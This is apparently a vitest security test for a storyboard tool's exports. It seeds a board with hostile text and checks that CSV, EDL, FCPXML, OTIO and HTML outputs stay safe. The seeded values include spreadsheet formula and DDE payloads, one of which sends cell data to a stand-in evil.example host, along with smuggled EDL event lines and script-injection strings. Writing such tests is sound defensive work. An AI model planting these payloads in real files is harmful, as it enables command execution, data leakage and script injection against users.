/**
 * Exports that are safe to open: a board whose every user-writable field holds hostile text
 * (spreadsheet formulas, EDL event lines smuggled in after CR/LF/NEL/U+2028, markup, `]]>`, lone
 * surrogates, bidi overrides, NUL and escape characters), exported in every format and read back
 * with strict parsers. Each file must hold exactly the board's shots, each field as typed (minus
 * what the format cannot hold), no formula at the start of any CSV cell, no extra EDL event, no
 * element or tag the writer did not put there.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { addComment, addReferenceVersion, addShot, assignReference, createReference, getShot, listComments, setShotFields } from '../../shared/doc/index.js';
import { rankedShots } from '../../shared/doc/shot-view.js';
import { roots } from '../../shared/doc/maps.js';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { TestClient, createBoard, joinWithRole, signedUpClient, uniqueEmail } from '../helpers/http.js';
import { connectBoard, type BoardConnection } from '../helpers/sync.js';
import { waitFor } from '../helpers/wait.js';
import { generateAndSelect } from '../export/helpers.js';
import { findAll, parseCsv, parseEdl, parseXml, type XmlNode } from '../export/parsers.js';

/** Text a spreadsheet would run: OWASP's starting characters, full-width forms, and a cell split by `;` or tab. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"open me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=2+2',
  '＝1+1',
  'harmless;=1+1',
  'harmless\t=1+1',
];
const EVENT_LINE = '999  AX       V     C        00:00:00:00 00:00:01:00 01:00:00:00 01:00:01:00';
/** Text that ends a line in some reader, each followed by a whole CMX 3600 event. */
const BREAKS = [
  `cut\r\n${EVENT_LINE}\r\n* FROM CLIP NAME: injected`,
  `cut\n${EVENT_LINE}`,
  `cut\r${EVENT_LINE}`,
  `cut\u0085${EVENT_LINE}`,
  `cut\u2028${EVENT_LINE}`,
  `cut\u2029${EVENT_LINE}`,
  'vertical\u000btab\u000cfeed',
  'escape \u001b[31mred\u001b[0m',
  'nul\u0000byte',
];
/** Markup and encoding tricks for OTIO, FCPXML and the HTML shot list. */
const MARKUP = [
  '"><script>alert(1)</script>',
  "' onerror='alert(1)",
  ']]><injected attr="1"/><![CDATA[',
  '<!-- c --> &amp; &#x41; &unknown;',
  'lone \ud800 high surrogate',
  'lone \udfff low surrogate',
  'rtl \u202eexe.txt\u202c end',
  'isolate \u2066x\u2069 mark\u200f',
];
const HOSTILE = [...FORMULAS, ...BREAKS, ...MARKUP];
/** A shot id is any non-empty string the client picks: one that is itself an event and a formula. */
const HOSTILE_ID = `=1+1\r\n${EVENT_LINE}\u2028"><script>x</script>`;
const BOARD_TITLE = `=cmd|' /C calc'!A0 \r\n${EVENT_LINE} "<script>alert(1)</script>" ]]> \u202eevil \ud800`;
const MEMBER_NAME = '=HYPERLINK("http://evil.example","me") \u2028 <b>';
const FORMATS = ['shots.csv', 'sequence.edl', 'sequence.fcpxml', 'timeline.otio', 'shots.html', 'sequence.json'] as const;

// What any UTF-8 writer does to a lone surrogate.
const wf = (s: string) => s.replace(/\p{Cs}/gu, '\ufffd');
const FORMULA_START = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
/** What a CSV cell of hostile text must read: the text, behind a `'` when a spreadsheet would run it. */
const csvExpected = (s: string) => (FORMULA_START.test(wf(s)) ? `'${wf(s)}` : wf(s));
/** Characters no line-based field may carry: controls (C0, DEL, C1 with NEL), line/paragraph separators, bidi controls. */
const LINE_UNSAFE = /[\p{Cc}\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
/** Characters XML 1.0 cannot hold, even as references. */
const XML_UNSAFE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g;

let srv: TestServer;
let owner: Awaited<ReturnType<typeof signedUpClient>>;
let boardId: string;
let conn: BoardConnection;
/** Shot id -> the hostile title it was given, in board order. */
const titles = new Map<string, string>();
let takeShot: string;

beforeAll(async () => {
  srv = await startTestServer();
  owner = await signedUpClient(srv.url, { name: 'Owner' });
  boardId = await createBoard(owner.client, BOARD_TITLE);
  // A teammate whose display name is a formula and a line separator, assigned to a shot.
  const mate = new TestClient(srv.url);
  const signup = await mate.post('/api/auth/signup', { email: uniqueEmail('mate'), password: 'correct horse battery', name: MEMBER_NAME });
  expect(signup.status).toBe(201);
  await joinWithRole(owner.client, mate, boardId, 'editor');

  conn = connectBoard(srv.url, boardId, owner.client);
  await conn.synced();
  const refId = createReference(conn.doc, { kind: 'character', name: FORMULAS[0]! });
  const version = addReferenceVersion(conn.doc, refId, { beat: BREAKS[0]!, assets: [] });
  takeShot = addShot(conn.doc, { title: BREAKS[0], prompt: MARKUP[0], durationSec: 2, model: 'animatic' });
  titles.set(takeShot, BREAKS[0]!);
  HOSTILE.forEach((text, i) => {
    const at = (k: number) => HOSTILE[(i + k) % HOSTILE.length]!;
    const id = addShot(conn.doc, { title: text, prompt: at(1), camera: at(2), notes: at(3), durationSec: 1, model: at(4), continuesFrom: takeShot });
    setShotFields(conn.doc, id, { assignee: i === 0 ? signup.body.id : at(5) });
    if (i === 1) assignReference(conn.doc, id, refId, version);
    titles.set(id, text);
  });
  // The hostile-id shot is written as a raw map, as a modified client would.
  const last = rankedShots(conn.doc).at(-1)!;
  conn.doc.transact(() => {
    const shot = new Y.Map<unknown>();
    for (const [k, v] of Object.entries({ rank: last.rank, mode: 'text', durationSec: 1, model: 'animatic', status: 'draft' })) shot.set(k, v);
    for (const k of ['title', 'prompt']) shot.set(k, new Y.Text(MARKUP[1]));
    roots(conn.doc).shots.set(HOSTILE_ID, shot);
  });
  titles.set(HOSTILE_ID, MARKUP[1]!);
  await waitFor(() => srv.takeboard.hub.read(boardId, (d) => getShot(d, HOSTILE_ID)), 'the hostile-id shot to be stored');
  const take = await generateAndSelect(srv, owner.client, conn, boardId, takeShot, 3);
  // Review notes on the take in the cut, by the teammate with the hostile name: every hostile text a marker.
  const mateConn = connectBoard(srv.url, boardId, mate);
  await mateConn.synced();
  HOSTILE.forEach((text, i) => addComment(mateConn.doc, { shotId: takeShot, takeId: take.id, atSec: i * 0.05, author: signup.body.id, text }));
  await waitFor(() => srv.takeboard.hub.read(boardId, (d) => listComments(d).length === HOSTILE.length), 'the notes to be stored');
  mateConn.destroy();
}, 180_000);

afterAll(async () => {
  conn?.destroy();
  await srv?.close();
});

const get = (file: string) => owner.client.get(`/api/boards/${boardId}/export/${file}`);
const text = async (file: string) => {
  const res = await get(file);
  expect(res.status, file).toBe(200);
  return typeof res.body === 'string' ? res.body : JSON.stringify(res.body);
};
const json = async (file: string) => JSON.parse(await text(file));

describe('export injection: the sidecar is the truth the other formats are checked against', () => {
  it('sequence.json holds every shot once, in order, each title as typed (lone surrogates as U+FFFD)', async () => {
    const seq = await json('sequence.json');
    expect(seq.cuts).toHaveLength(titles.size);
    expect(seq.title).toBe(wf(BOARD_TITLE));
    const byId = new Map(seq.cuts.map((c: { shotId: string; title: string }) => [c.shotId, c.title]));
    for (const [id, title] of titles) expect(byId.get(wf(id)), JSON.stringify(id)).toBe(wf(title));
  });
});

describe('export injection: CSV', () => {
  it('puts no formula at the start of any cell, in any column, and keeps every value', async () => {
    const raw = await text('shots.csv');
    const [header, ...rows] = parseCsv(raw);
    expect(rows).toHaveLength(titles.size);
    const col = (name: string) => header!.indexOf(name);
    const numeric = new Set([col('order'), col('duration_sec'), col('selected_take_cost_usd')]);
    for (const row of rows) {
      expect(row).toHaveLength(header!.length);
      row.forEach((cell, i) => {
        if (numeric.has(i)) expect(cell, header![i]).toMatch(/^(\d+(\.\d+)?)?$/);
        else expect(cell, `${header![i]} = ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
      });
    }
    const byId = new Map(rows.map((r) => [r[col('shot_id')]!, r]));
    for (const [id, title] of titles) {
      const row = byId.get(csvExpected(id))!;
      expect(row, JSON.stringify(id)).toBeDefined();
      expect(row[col('title')]).toBe(csvExpected(title));
    }
    // Every hostile value in every free column: prompt, camera, notes, model, assignee id.
    HOSTILE.forEach((value, i) => {
      const at = (k: number) => HOSTILE[(i + k) % HOSTILE.length]!;
      const row = rows.find((r) => r[col('title')] === csvExpected(value) && r[col('continues_from')] !== '')!;
      expect(row[col('prompt')]).toBe(csvExpected(at(1)));
      expect(row[col('camera')]).toBe(csvExpected(at(2)));
      expect(row[col('notes')]).toBe(csvExpected(at(3)));
      expect(row[col('model')]).toBe(csvExpected(at(4)));
      if (i > 0) expect(row[col('assignee_id')]).toBe(csvExpected(at(5)));
      expect(row[col('continues_from_title')]).toBe(csvExpected(BREAKS[0]!));
    });
    const first = rows.find((r) => r[col('title')] === csvExpected(HOSTILE[0]!))!;
    expect(first[col('assignee')]).toBe(csvExpected(MEMBER_NAME));
    expect(rows.find((r) => r[col('title')] === csvExpected(HOSTILE[1]!))![col('references')]).toMatch(/^'=HYPERLINK/);
    // A field holding `;` or a tab is quoted, so a reader splitting on those keeps it one cell.
    expect(raw).toContain('"harmless;=1+1"');
    expect(raw).toContain('"harmless\t=1+1"');
  });
});

describe('export injection: EDL', () => {
  it('has exactly one event per shot; no user text ends a line in any reader', async () => {
    const edl = await text('sequence.edl');
    expect(edl).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
    const lines = edl.split('\r\n');
    // A reader that also breaks lines at NEL, U+2028/9, VT or FF sees the very same lines.
    expect(edl.split(/\r\n|[\r\n\u0085\u2028\u2029\u000b\u000c]/)).toEqual(lines);
    for (const line of lines) expect(line, JSON.stringify(line)).not.toMatch(LINE_UNSAFE);
    const parsed = parseEdl(edl);
    expect(parsed.events.map((e) => e.num)).toEqual([...titles.keys()].map((_, i) => i + 1));
    expect(parsed.events.every((e) => /^[A-Z0-9_]{1,8}$/.test(e.reel))).toBe(true);
    expect(parsed.title).toMatch(/^[\x20-\x7e]+$/);
    for (const e of parsed.events) {
      expect(e.comments.filter((c) => c.startsWith('* FROM CLIP NAME: '))).toHaveLength(1);
      expect(e.comments.every((c) => c.length <= 200)).toBe(true);
    }
    // Each clip name is the shot's name on one line: breaks became spaces, bidi controls dropped.
    const seq = await json('sequence.json');
    const line = (v: string) => wf(v).replace(/[\p{Cc}\u2028\u2029]+/gu, ' ').replace(/[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g, '').replace(/\s+/g, ' ').trim();
    parsed.events.forEach((e, i) => {
      const cut = seq.cuts[i];
      const name = line(cut.kind === 'slate' ? cut.slate.label : cut.title);
      expect(e.comments[0]).toBe(`* FROM CLIP NAME: ${Array.from(name).slice(0, 120).join('').trim()}`);
    });
    expect(parsed.events[0]!.comments[0]).toBe(`* FROM CLIP NAME: cut ${EVENT_LINE.replace(/\s+/g, ' ')} * FROM CLIP NAME: injected`);
    // Every note is one locator line on the take's event, its text on that line.
    const locators = parsed.events[0]!.comments.filter((c) => c.startsWith('* LOC: '));
    expect(locators).toHaveLength(HOSTILE.length);
    for (const l of locators) expect(l).toMatch(/^\* LOC: 01:00:0\d:\d\d RED {5}=HYPERLINK\("http:\/\/evil\.example","me"\) <b>: ./);
    expect(locators[FORMULAS.length]).toContain(`cut ${EVENT_LINE.replace(/\s+/g, ' ')} * FROM CLIP NAME: injected`);
    expect(parsed.events.some((e) => e.comments[0]!.endsWith(': rtl exe.txt end'))).toBe(true);
  });
});

describe('export injection: OTIO, FCPXML and the HTML shot list', () => {
  // Typed text reaches the document as UTF-8 (lone surrogates already U+FFFD); provenance stored
  // from provider answers need not, so the writers make every string well-formed (escape.ts jsonText).
  it('OTIO and sequence.json: no lone surrogate escape (strict readers such as OTIO’s refuse them)', async () => {
    for (const file of ['timeline.otio', 'sequence.json']) expect(await text(file), file).not.toMatch(/\\ud[89a-f][0-9a-f]{2}/i);
  });

  it('OTIO: one clip or gap per shot, names exactly the sidecar titles', async () => {
    const [otio, seq] = [await json('timeline.otio'), await json('sequence.json')];
    const items = otio.tracks.children[0].children.filter((c: { OTIO_SCHEMA: string }) => c.OTIO_SCHEMA !== 'Transition.1');
    expect(items).toHaveLength(titles.size);
    expect(otio.name).toBe(wf(BOARD_TITLE));
    items.forEach((item: { OTIO_SCHEMA: string; name: string; metadata: { takeboard: { shotId: string } } }, i: number) => {
      const cut = seq.cuts[i];
      expect(item.metadata.takeboard.shotId).toBe(cut.shotId);
      expect(item.name).toBe(cut.kind === 'slate' ? cut.slate.label : cut.title);
    });
  });

  it('FCPXML: well-formed, only the writer’s elements, one clip or gap per shot, names as typed minus what XML cannot hold', async () => {
    const [xml, seq] = [await text('sequence.fcpxml'), await json('sequence.json')];
    const root = parseXml(xml);
    const elements = new Set<string>();
    const walk = (n: XmlNode) => n.children.forEach((c) => (elements.add(c.name), walk(c)));
    walk(root);
    expect([...elements].sort()).toEqual(['asset', 'asset-clip', 'event', 'format', 'gap', 'library', 'marker', 'md', 'media-rep', 'metadata', 'note', 'project', 'resources', 'sequence', 'spine']);
    // Each note a marker of the take's clip, its note attribute the text as typed minus what XML cannot hold.
    const markers = findAll(root, 'marker');
    expect(markers.map((m) => m.attrs.note)).toEqual(HOSTILE.map((h) => wf(h).replace(XML_UNSAFE, '')));
    const spine = findAll(root, 'spine')[0]!.children.filter((c) => c.name !== 'transition');
    expect(spine).toHaveLength(titles.size);
    const clean = (s: string) => s.replace(XML_UNSAFE, '');
    spine.forEach((item, i) => {
      const cut = seq.cuts[i];
      expect(item.attrs.name).toBe(clean(wf(cut.kind === 'slate' ? cut.slate.label : cut.title)));
    });
    expect(findAll(root, 'project')[0]!.attrs.name).toBe(clean(wf(BOARD_TITLE)));
  });

  it('HTML: one row per shot, no tag or attribute the writer did not write, every title as text', async () => {
    const res = await get('shots.html');
    expect(res.headers.get('content-security-policy')).toMatch(/^default-src 'none';/);
    const html = res.body as string;
    const tags = new Set([...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase()));
    expect([...tags].sort()).toEqual(['body', 'br', 'div', 'h1', 'head', 'header', 'html', 'img', 'meta', 'style', 'table', 'tbody', 'td', 'th', 'thead', 'title', 'tr']);
    expect(html).not.toMatch(/<script|<!\[CDATA\[|<!-- c/i);
    // Quotes in values are escaped, so a value never ends early: these are all the attributes there are.
    const attrs = new Set([...html.matchAll(/<[a-zA-Z][\w-]*((?:\s+[\w-]+(?:="[^"]*")?)*)\s*\/?>/g)].flatMap((m) => [...m[1]!.replace(/="[^"]*"/g, '').matchAll(/\s([\w-]+)/g)].map((a) => a[1]!)));
    expect([...attrs].sort()).toEqual(['alt', 'charset', 'class', 'content', 'lang', 'name', 'src']);
    const body = html.slice(html.indexOf('<tbody>'), html.indexOf('</tbody>'));
    expect(body.match(/<tr>/g)).toHaveLength(titles.size);
    const unescape = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
    const shown = [...body.matchAll(/<div class="title">([^<]*)<\/div>/g)].map((m) => unescape(m[1]!));
    expect(shown.sort()).toEqual([...titles.values()].map(wf).sort());
  });
});

describe('export injection: nothing else broke', () => {
  it('every format downloads as an attachment with a one-line header; the board still stores edits; other boards still export', async () => {
    for (const file of FORMATS) {
      const res = await get(file);
      expect(res.status, file).toBe(200);
      const disposition = res.headers.get('content-disposition')!;
      expect(disposition, file).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''[\x21-\x7e]+$/);
      expect(res.headers.get('x-content-type-options'), file).toBe('nosniff');
    }
    const after = addShot(conn.doc, { title: 'Plain shot after the exports', prompt: 'x', durationSec: 1, model: 'animatic' });
    await waitFor(() => srv.takeboard.hub.read(boardId, (d) => getShot(d, after)), 'an edit after the exports to be stored');
    const other = await signedUpClient(srv.url);
    const otherBoard = await createBoard(other.client, 'Quiet board');
    const csv = await other.client.get(`/api/boards/${otherBoard}/export/shots.csv`);
    expect(csv.status).toBe(200);
    expect(parseCsv(csv.body as string)).toHaveLength(1);
  });
});
